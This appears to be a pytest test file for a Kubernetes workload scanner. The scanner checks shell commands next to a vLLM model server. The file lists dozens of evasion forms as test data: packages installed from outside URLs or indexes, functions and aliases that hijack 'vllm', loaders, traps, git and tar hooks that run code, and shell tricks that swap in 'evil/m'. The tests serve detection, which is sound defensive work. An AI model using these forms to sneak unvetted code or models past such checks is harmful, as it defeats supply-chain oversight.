"""Commands beside a model server that hide what is served: each class of them, in forms that were tried."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from mlgate.workloads.extract import Extraction

Json = dict[str, Any]
Read = Callable[..., Extraction]
PodOf = Callable[..., Json]

VLLM = "vllm/vllm-openai:v1"
CLAIM: Json = {"name": "d", "persistentVolumeClaim": {"claimName": "data"}}
MAP: Json = {"name": "d", "configMap": {"name": "m"}}
HARMLESS: Json = {"name": "MODEL_ID", "value": "good/harmless"}
SECRET: Json = {"name": "X", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}
SERVE = "vllm serve good/m"

PIPED = "runs what another command prints, which the reader cannot follow"
NAMED = "runs a program that is named elsewhere"
ALIAS = "gives a program another name, which the reader does not follow"
ARGUMENTS = "takes arguments from elsewhere, which the reader cannot know"
INSTALLED = "installs code from a place of its own, which can replace the server"
INDEX = "says from where packages are installed, which can replace the server"
FOREIGN = "runs code that the reader does not know how to read"
GIVEN = "gives a program of the image what the reader cannot look into"
PROGRAM = "runs a program from where the reader cannot look"
RUN = "holds what programs run, which the reader does not follow"
BROKEN = "is no line of a shell that the reader understands"


def problems(
    read: Read, pod_of: PodOf, line: str, volumes: list[Json] | None = None, **more: Any
) -> list[str]:
    mounts = [{"name": "d", "mountPath": "/d"}] if volumes else []
    obj = pod_of(
        {"volumes": volumes} if volumes else None,
        image=VLLM,
        command=["bash", "-c", line],
        volumeMounts=mounts,
        **more,
    )
    workload = read(obj).workload
    assert workload is not None
    assert workload.serves_model
    return [item.message for item in workload.problems]


def models(read: Read, pod_of: PodOf, line: str, **more: Any) -> list[str]:
    workload = read(pod_of(image=VLLM, command=["bash", "-c", line], **more)).workload
    return [model.uri for model in workload.models] if workload is not None else []


NEVER_SET = {
    "taken away": "unset N; vllm serve ${N:-evil/m}",
    "set in a shell of its own": "(N=good/m); vllm serve ${N:-evil/m}",
    "set for one command": "N=good/m true; vllm serve ${N:-evil/m}",
    "set behind what fails": "false && N=good/m; vllm serve ${N:-evil/m}",
    "set behind what works": "true || N=good/m; vllm serve ${N:-evil/m}",
    "set in a branch": "if false; then N=good/m; fi; vllm serve ${N:-evil/m}",
    "set in a loop": "for i in $(true); do N=good/m; done; vllm serve ${N:-evil/m}",
    "set in a case": "case a in b) N=good/m;; esac; vllm serve ${N:-evil/m}",
    "set in a function": "f() { N=good/m; }; vllm serve ${N:-evil/m}",
    "set at the end of a pipe": "true | N=good/m; vllm serve ${N:-evil/m}",
    "set behind": "vllm serve ${N:-evil/m} & N=good/m",
    "set beside": "N=good/m & vllm serve ${N:-evil/m}",
    "set in a substitution": "echo $(N=good/m); vllm serve ${N:-evil/m}",
    "set under another name": "N=good/m; declare -n R=N; R=evil/m; vllm serve $N",
    "set under a local name": "N=good/m; typeset -n R=N; read R < /x; vllm serve $N",
    "read": "N=good/m; read N <<< evil/m; vllm serve $N",
    "printed into": "N=good/m; printf -v N evil/m; vllm serve $N",
    "read as a list": "N=good/m; mapfile N < /x; vllm serve $N",
    "local to a function": "N=good/m; f() { local N; vllm serve ${N:-evil/m}; }; f",
    "taken from programs": "N=good/m; export -n N; vllm serve $N",
    "split otherwise": "N=good/m; IFS=/; vllm serve $N",
}


@pytest.mark.parametrize("line", NEVER_SET.values(), ids=NEVER_SET.keys())
def test_bypass_18_a_value_that_may_not_be_there_is_none(read: Read, pod_of: PodOf, line: str) -> None:
    env = [{"name": "N", "value": "good/m"}] if line.startswith("unset") else []

    assert "hf://good/m" not in models(read, pod_of, line, env=env)


def test_a_default_that_is_kept_is_a_value(read: Read, pod_of: PodOf) -> None:
    assert models(read, pod_of, ": ${N:=evil/m}; vllm serve $N") == ["hf://evil/m"]


SET = {
    "at once": "N=good/m; vllm serve $N",
    "for programs": "export N=good/m && vllm serve $N",
    "for good": "readonly N=good/m; vllm serve ${N:-evil/m}",
    "in the same branch": "if true; then N=good/m; vllm serve $N; fi",
    "in the same function": "main() { local N=good/m; vllm serve $N; }; main",
    "behind one another": "true && N=good/m && vllm serve $N",
    "before a branch": "N=good/m; if true; then vllm serve $N; else exit 1; fi",
    "in brackets": "{ N=good/m; }; vllm serve $N",
}


@pytest.mark.parametrize("line", SET.values(), ids=SET.keys())
def test_a_value_that_is_always_there_counts(read: Read, pod_of: PodOf, line: str) -> None:
    assert models(read, pod_of, line) == ["hf://good/m"]


INSTALLS = {
    "the working folder": "pip install .",
    "the working folder with extras": "pip install .[all]",
    "an editable folder": "pip install -e .",
    "a folder": "pip install ./x",
    "a wheel of the image's folder": "pip install x.whl",
    "a repository": "uv run --with git+https://example.org/x python -m x",
    "another index for a run": "uv run --index-url https://example.org x",
    "a module": "python3 -mpip install https://example.org/x.whl",
    "an isolated module": "python -I -m pip install https://example.org/x.whl",
    "a version of the installer": "pip3.12 install -i https://example.org x",
    "a version of the interpreter": "python3.12 -m pip install git+https://example.org/x",
    "a tool of uv": "uvx --from git+https://example.org/x x",
    "a tool": "pipx install git+https://example.org/x",
    "a project": "poetry add git+https://example.org/x",
    "a channel": "conda install -c https://example.org x",
    "a channel of another program": "mamba install -c evil x",
    "a package of the system in a file": "apt-get install -y /x.deb",
    "a package of the system": "dpkg -i /x.deb",
    "a package that is fetched": "rpm -i https://example.org/x.rpm",
    "an egg": "easy_install https://example.org/x",
    "a package of another language": "npm install https://example.org/x.tgz",
    "what is fetched to be installed": "pip download https://example.org/x.whl",
    "a file of an address": "pip install -r https://example.org/r.txt",
    "the index for good": "pip config set global.index-url https://example.org && pip install x",
    "a name for a repository": "pip install 'x @ git+https://example.org/x'",
    "a name that is computed": "pip install $(cat /x)",
    "behind a starter": "nice -n 5 env A=b pip install git+https://example.org/x",
}


@pytest.mark.parametrize("line", INSTALLS.values(), ids=INSTALLS.keys())
def test_bypass_19_what_is_installed_from_elsewhere_is_told(read: Read, pod_of: PodOf, line: str) -> None:
    assert INSTALLED in problems(read, pod_of, f"{line}; {SERVE}")


def test_bypass_19_requirements_in_a_volume_are_told(read: Read, pod_of: PodOf) -> None:
    for line in (
        "pip install -r /d/r.txt",
        "pip install --requirement=/d/r.txt",
        "python /d/setup.py install",
    ):
        assert {INSTALLED, PROGRAM} & set(problems(read, pod_of, f"{line}; {SERVE}", [CLAIM]))


@pytest.mark.parametrize(
    "variable",
    [
        *("PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "UV_INDEX_URL", "UV_DEFAULT_INDEX"),
        *("UV_EXTRA_INDEX_URL", "UV_FIND_LINKS", "npm_config_registry"),
    ],
)
def test_bypass_19_an_index_in_a_variable_is_told(read: Read, pod_of: PodOf, variable: str) -> None:
    env = [{"name": variable, "value": "https://example.org/simple"}]
    line = f"pip install vllm; {SERVE}"

    assert INDEX in problems(read, pod_of, line, env=env)
    assert INDEX in problems(read, pod_of, f"export {variable}=https://example.org/simple; {line}")
    assert INDEX in problems(read, pod_of, line, env=[{**SECRET, "name": variable}])
    assert problems(read, pod_of, SERVE, env=env) == []


def test_bypass_19_a_configuration_of_an_installer_in_a_volume_is_told(read: Read, pod_of: PodOf) -> None:
    for name in ("PIP_CONFIG_FILE", "UV_CONFIG_FILE", "XDG_CONFIG_HOME"):
        env = [{"name": name, "value": "/d/pip.conf"}]
        assert INDEX in problems(read, pod_of, f"pip install vllm; {SERVE}", [MAP], env=env)


PLAIN_INSTALLS = {
    "a package": "pip install vllm",
    "a package of a version": "pip install -q --no-cache-dir 'vllm==0.9.1' 'ray[default]>=2,<3'",
    "a list of the image": "pip install -r /app/requirements.txt",
    "by a module": "python3 -m pip install --upgrade pip setuptools wheel",
    "by uv": "uv pip install --system hf_transfer",
    "of the system": "apt-get update && apt-get install -y --no-install-recommends curl libgl1",
    "of Alpine": "apk add --no-cache curl",
    "what is there is shown": "pip list; pip show vllm; pip freeze",
}


@pytest.mark.parametrize("line", PLAIN_INSTALLS.values(), ids=PLAIN_INSTALLS.keys())
def test_packages_of_the_default_index_are_installed(read: Read, pod_of: PodOf, line: str) -> None:
    assert problems(read, pod_of, f"{line}; {SERVE}") == []


RENAMED = {
    "a function of a server": ("vllm() { /app/other; }; vllm serve good/m", ALIAS),
    "a function in the older form": ("function vllm { /app/other; }; vllm serve good/m", ALIAS),
    "a function of an interpreter": (f"python3() {{ /app/x; }}; {SERVE}", ALIAS),
    "a function for what is not found": (f"command_not_found_handle() {{ /app/x; }}; {SERVE}", ALIAS),
    "an alias of a server": (f"shopt -s expand_aliases; alias vllm='/app/other'\n{SERVE}", ALIAS),
    "an alias that serves": (f"alias x='vllm serve evil/m'; {SERVE}", ALIAS),
    "an alias of a program of the image": (f"alias ls='/app/other'; {SERVE}", ALIAS),
    "a place in the table of programs": (f"hash -p /app/other vllm; {SERVE}", FOREIGN),
    "a builtin of a file": (f"enable -f /app/x.so x; {SERVE}", FOREIGN),
    "a program for each prompt": (f"PROMPT_COMMAND=/app/x bash -i -c x; {SERVE}", RUN),
    "a substitution in a prompt": (f"export PS4='$(/app/x)'; set -x; {SERVE}", RUN),
    "a file that stands for several": (f"/usr/bin/v*m serve evil/m; {SERVE}", NAMED),
    "a list of programs": (f"/usr/bin/{{vllm,x}} serve evil/m; {SERVE}", NAMED),
}


@pytest.mark.parametrize(("line", "message"), RENAMED.values(), ids=RENAMED.keys())
def test_bypass_20_another_program_under_a_known_name_is_told(
    read: Read, pod_of: PodOf, line: str, message: str
) -> None:
    assert message in problems(read, pod_of, line)


def test_bypass_20_a_function_in_a_variable_is_told(read: Read, pod_of: PodOf) -> None:
    env = [{"name": "BASH_FUNC_vllm%%", "value": "() { /app/other; }"}]

    assert RUN in problems(read, pod_of, SERVE, env=env)


def test_bypass_20_a_folder_that_is_put_first_and_filled_is_told(read: Read, pod_of: PodOf) -> None:
    line = f"mkdir /x; ln -s /app/other /x/vllm; PATH=/x:$PATH; {SERVE}"

    assert "takes code from where the command line itself writes" in problems(read, pod_of, line)


STARTED = {
    "the loader of the system": ("/lib64/ld-linux-x86-64.so.2 /d/x", PROGRAM),
    "the loader with flags": ("/lib/ld-linux-aarch64.so.1 --library-path /x /d/x", PROGRAM),
    "the loader of musl": ("/lib/ld-musl-x86_64.so.1 /d/x", PROGRAM),
    "a trap": ("trap '/d/x' EXIT", PROGRAM),
    "a trap of a signal": ("trap -- 'sh /d/x' USR1 TERM", PROGRAM),
    "a coprocess": ("coproc /d/x", PROGRAM),
    "a coprocess with a name": ("coproc X { /d/x; }", PROGRAM),
    "another name for itself": ("exec -a vllm /d/x", PROGRAM),
    "a cleared environment": ("exec -cl /d/x", PROGRAM),
    "an option with a word": ("bash -o pipefail /d/x", PROGRAM),
    "options with a word": ("bash -euo pipefail -O extglob /d/x", PROGRAM),
    "a start file": ("bash --rcfile /d/x -i", PROGRAM),
    "several processes": ("torchrun --nproc-per-node 2 /d/x.py", PROGRAM),
    "several processes of a program": ("torchrun --no-python /d/x", PROGRAM),
    "several processes by a module": ("python -m torch.distributed.run /d/x.py", PROGRAM),
    "an accelerator": ("accelerate launch --num_processes 1 /d/x.py", PROGRAM),
    "an environment": ("uv run /d/x.py", PROGRAM),
    "an environment of packages": ("uv run --with x python /d/x.py", PROGRAM),
    "a folder of code": ("gunicorn --chdir /d app:app", GIVEN),
    "a folder of an application": ("uvicorn --app-dir /d app:app", GIVEN),
    "a folder of a module": ("python -m uvicorn --app-dir /d app:app", GIVEN),
    "an archive of Java": ("java -jar /d/x.jar", GIVEN),
    "a class path": ("java -cp /d X", GIVEN),
    "rules for make": ("make -f /d/Makefile", GIVEN),
    "a folder with rules": ("make -C /d", GIVEN),
    "a supervisor": ("supervisord -c /d/x.conf", GIVEN),
    "a supervisor with a long flag": ("supervisord --configuration=/d/x.conf", GIVEN),
    "its own root": ("/proc/self/root/d/x", PROGRAM),
    "the root of another": ("/proc/1/root/d/x", PROGRAM),
    "its own folder": ("cd /d; /proc/self/cwd/x", PIPED),
    "an applet": ("busybox sh /d/x", PROGRAM),
    "an applet that starts another": ("busybox setsid /d/x", PROGRAM),
    "a terminal": ("script -c /d/x /dev/null", PROGRAM),
    "a terminal with flags": ("script -qefc 'sh /d/x' /dev/null", PROGRAM),
    "another user": ("su nobody -c /d/x", PROGRAM),
    "another user with a long flag": ("runuser --command='/d/x' nobody", PROGRAM),
    "a session": ("setsid -f /d/x", PROGRAM),
    "a lock": ("flock /tmp/l -c '/d/x'", PROGRAM),
    "a lock with flags": ("flock -w 5 /l /d/x", PROGRAM),
    "an init": ("tini -s -- /d/x", PROGRAM),
    "another init": ("dumb-init --rewrite 15:2 /d/x", PROGRAM),
    "a supervisor of users": ("s6-setuidgid nobody /d/x", PROGRAM),
    "another machine": ("ssh host vllm serve evil/m", FOREIGN),
    "a container": ("docker run x", FOREIGN),
    "priorities": ("nice -n 5 ionice -c 2 -n 7 taskset -c 0-3 /d/x", PROGRAM),
    "nodes of memory": ("numactl --cpunodebind 0 -m 0 /d/x", PROGRAM),
    "a limit of time": ("timeout -k 5 10 env -u A B=c /d/x", PROGRAM),
    "a text for env": ("env -S '/d/x y'", PROGRAM),
    "processes": ("mpirun -np 2 -x A /d/x", PROGRAM),
    "isolated Python": ("python3 -I -u /d/x.py", PROGRAM),
    "a flag of Python with a word": ("python3 -W ignore -X dev /d/x.py", PROGRAM),
    "a script of another language": ("perl /d/x", PROGRAM),
    "a shell of another kind": ("fish /d/x", PROGRAM),
    "a program of a folder of its own": ("chroot /d vllm serve good/m", GIVEN),
    "an evaluated text": ("eval 'exec /d/x'", PROGRAM),
    "a text of a text": ("eval \"eval '/d/x'\"", PROGRAM),
    "a document": ("bash <<'E'\n/d/x\nE\n", PROGRAM),
    "a document for Python": ("python3 - <<E\nimport runpy; runpy.run_path('/d/x')\nE\n", PROGRAM),
    "a shell that waits for its input": ("cat /d/x | { bash; }", PIPED),
    "a shell in brackets": ("cat /d/x | ( sleep 1; sh )", PIPED),
    "Python that waits for its input": ("exec 0< /d/x; python3", PIPED),
    "a program of the image with a file": ("/app/run /d/x", GIVEN),
    "a program with a file behind a flag": ("/app/run --init=/d/x", GIVEN),
    "a program with a line": ("/app/run 'vllm serve evil/m'", GIVEN),
    "a program with code": ("/app/run --do 'a; b'", GIVEN),
    "a program with a shell": ("/app/run sh /d/x", PROGRAM),
    "a program with a repository": ("/app/run git+https://example.org/x", GIVEN),
    "a program with a Secret": ("/app/run $X", ARGUMENTS),
    "a mount": ("mount --bind /d /usr/lib", GIVEN),
    "a load generator with code": ("locust -f /d/x.py", GIVEN),
}


@pytest.mark.parametrize(("line", "message"), STARTED.values(), ids=STARTED.keys())
def test_bypass_21_a_program_behind_a_starter_is_found(
    read: Read, pod_of: PodOf, line: str, message: str
) -> None:
    assert message in problems(
        read, pod_of, f"{line} & {SERVE}" if "\n" not in line else f"{line}{SERVE}", [CLAIM], env=[SECRET]
    )


RUNNING = {
    "an alias of git": "git -c alias.x='!/app/x' x",
    "an alias of git for good": "git config --global alias.x '!/app/x'",
    "a command for a clone": "git clone --config core.sshCommand=/app/x ssh://a/b /m",
    "a program of the other side": "git clone --upload-pack /app/x ssh://a/b /m",
    "a transport": "git clone 'ext::sh -c x' /m",
    "what unpacks": "tar --to-command=/app/x -xf /x.tar",
    "what unpacks in short": "tar -I /app/x -xf /x.tar",
    "at each step": "tar xf /x.tar --checkpoint=1 --checkpoint-action=exec=/app/x",
    "a shell for copies": "rsync -e '/app/x' a:b /m",
    "a shell among flags": "rsync -ave /app/x a:b /m",
    "for each file": "find / -name x -exec {} ;",
    "an edit that runs": "sed '1e /app/x' /etc/hosts",
    "a replacement that runs": "sed 's/a/b/e' /etc/hosts",
    "a pipe of awk": 'awk \'BEGIN { print "x" | "sh" }\'',
    "a filter": "split --filter=/app/x /y",
    "a configuration of curl": "curl -K /x https://example.org",
    "a call of Ray": "ray job submit -- /app/x",
}


@pytest.mark.parametrize("line", RUNNING.values(), ids=RUNNING.keys())
def test_bypass_22_tools_that_are_told_to_run_something_are_told(
    read: Read, pod_of: PodOf, line: str
) -> None:
    assert FOREIGN in problems(read, pod_of, f"{line}; {SERVE}")


@pytest.mark.parametrize(
    "line", ["vim -c ':!/d/x'", "vim -S /d/x", "ssh -o ProxyCommand=/d/x host", "find . -exec /d/x +"]
)
def test_bypass_22_further_programs_run_files_of_volumes(read: Read, pod_of: PodOf, line: str) -> None:
    assert {GIVEN, FOREIGN, PROGRAM} & set(problems(read, pod_of, f"{line}; {SERVE}", [CLAIM]))


@pytest.mark.parametrize(
    "name", ["GIT_SSH_COMMAND", "RSYNC_RSH", "TAR_OPTIONS", "PERL5OPT", "JAVA_TOOL_OPTIONS"]
)
def test_bypass_22_variables_that_hold_commands_are_told(read: Read, pod_of: PodOf, name: str) -> None:
    assert RUN in problems(read, pod_of, SERVE, env=[{"name": name, "value": "x"}])
    assert RUN in problems(read, pod_of, f"{name}=x git fetch; {SERVE}")


def test_a_line_no_shell_takes_is_told(read: Read, pod_of: PodOf) -> None:
    assert BROKEN in problems(read, pod_of, f"{SERVE}; fi")


UNDERSTOOD = {
    "tools": "set -euo pipefail; mkdir -p /x; ls -l /d; test -f /d/a || echo no; nvidia-smi",
    "a program of the image": "/app/run --port 80 --model-dir /d/m --log-file /d/log",
    "a module of the image": "python -m app.server --config /etc/app.yaml",
    "a script of the image": "bash -x /app/start.sh --model /d/m",
    "a function": 'log() { echo "$(date) $*"; }; log starting',
    "a trap that ends": "trap 'kill $PID; exit' TERM INT; trap - EXIT",
    "a loop that waits": "until curl -sf http://localhost/health; do sleep 1; done",
    "a case": 'case "$A" in a|b) echo x;; *) exit 1;; esac',
    "a list": 'A=(--port 80); A+=(--seed 1); echo "${A[@]}"',
    "an edit": "sed -i 's/the/one/g; s|/x/e|/y|' /etc/hosts; awk '{print system}' /etc/hosts",
    "the environment of a tool": "source /opt/venv/bin/activate; env | sort",
    "what is asked for": "command -v vllm && which python3; type -a vllm",
    "arguments in JSON": '/app/run --options \'{"a": "b; c"}\'',
    "an argument of blanks": "/app/run --delimiter ' '",
    "an argument an operator fills in": "/app/run '{{ .Name }} '",
    "a message": "echo \"starting; $MODEL\"; echo \"$(date) $MODEL\"; printf '%s\\n' 'vllm serve x'",
    "a text with a variable": "cat > /var/log/x <<E\n$MODEL is served\nE",
    "an alias of a tool": "alias ll='ls -l'; ll",
    "starters of the image's programs": "exec nice -n 5 numactl -m 0 /app/run",
    "a stop of a program": "pkill -f vllm; kill -9 $(pgrep ray) || true",
    "Ray": "ray start --head --port 6379; ray status",
}


@pytest.mark.parametrize("line", UNDERSTOOD.values(), ids=UNDERSTOOD.keys())
def test_what_is_understood_is_not_held_up(read: Read, pod_of: PodOf, line: str) -> None:
    assert problems(read, pod_of, f"{line}\n{SERVE}", [CLAIM]) == []
